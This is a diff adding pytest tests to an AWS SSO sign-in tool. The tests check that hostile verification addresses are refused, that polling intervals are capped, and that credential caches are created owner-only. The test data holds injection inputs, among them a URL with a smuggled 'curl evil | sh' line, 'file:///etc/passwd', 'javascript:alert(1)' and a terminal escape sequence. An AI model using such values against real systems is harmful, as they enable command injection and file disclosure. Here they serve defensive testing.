@@ -6,6 +6,7 @@ import asyncio
 import base64
 import hashlib
 import json
+import os
 import stat
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -15,7 +16,9 @@ import botocore.session
 import pytest
 from botocore.tokens import SSOTokenProvider
 
+from ssmtui.aws.role_names import RoleCache
 from ssmtui.aws.sign_in import sso
+from ssmtui.aws.sign_in.caches import JsonCache
 from ssmtui.aws.sign_in.flow import sign_in
 from ssmtui.aws.sign_in.person import Page
 from ssmtui.aws.sign_in.sso import SsoSettings, sso_settings
@@ -394,3 +397,53 @@ def test_the_keys_do_not_depend_on_what_does_not_belong_to_them() -> None:
     one = SsoSettings(URL, "eu-west-2", "corp", ("a",))
     assert one.token_key == SsoSettings("https://other/start", "x", "corp").token_key
     assert one.registration_key != SsoSettings(URL, "eu-west-2", "corp", ("b",)).registration_key
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "http://device.sso.test/",
+        "file:///etc/passwd",
+        "javascript:alert(1)",
+        "https://device.sso.test/\ncurl evil | sh\n",
+        "https://device.sso.test/\x1b]0;x\x07",
+        "https:///nowhere",
+        "https://device.sso.test/" + "x" * 2000,
+        "-a",
+    ],
+)
+@pytest.mark.parametrize("name", ["verificationUri", "verificationUriComplete"])
+async def test_a_page_that_is_none_is_neither_shown_nor_copied_nor_opened(
+    fake_aws: FakeAws, name: str, address: str
+) -> None:
+    fake_aws.answers[START] = {**STARTED, name: address}
+    signer = Signer()
+    with pytest.raises(CredentialsError, match="not one that can be opened") as failed:
+        await sign_in(CORP, signer, browser=False)
+    assert signer.pages == []
+    assert str(failed.value).isprintable()
+    assert len(failed.value.detail) < 200
+
+
+async def test_an_interval_without_end_does_not_outlast_the_code(
+    fake_aws: FakeAws, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(sso, "LONGEST_INTERVAL", 0.001)
+    fake_aws.answers[START] = {**STARTED, "interval": 2_000_000_000}
+    fake_aws.answers[TOKEN] = [PENDING, PENDING, GIVEN]
+    async with asyncio.timeout(20):
+        await sign_in(CORP, Signer(), browser=False)
+
+
+async def test_all_that_is_made_is_for_its_owner_alone_whatever_the_umask_is(configuration: Path) -> None:
+    """The folder ~/.aws, too, for somebody who has none yet."""
+    (configuration / ".aws").rename(configuration / "kept")
+    before = os.umask(0)
+    try:
+        JsonCache(configuration / ".aws" / "sso" / "cache").write("token", {"accessToken": "sso-token"})
+        RoleCache(str(configuration / ".aws" / "cli" / "cache"))["role"] = {"Credentials": {}}
+    finally:
+        os.umask(before)
+    made = [configuration / ".aws", *(configuration / ".aws").rglob("*")]
+    assert len(made) == 7
+    assert [path for path in made if stat.S_IMODE(path.stat().st_mode) & 0o077] == []
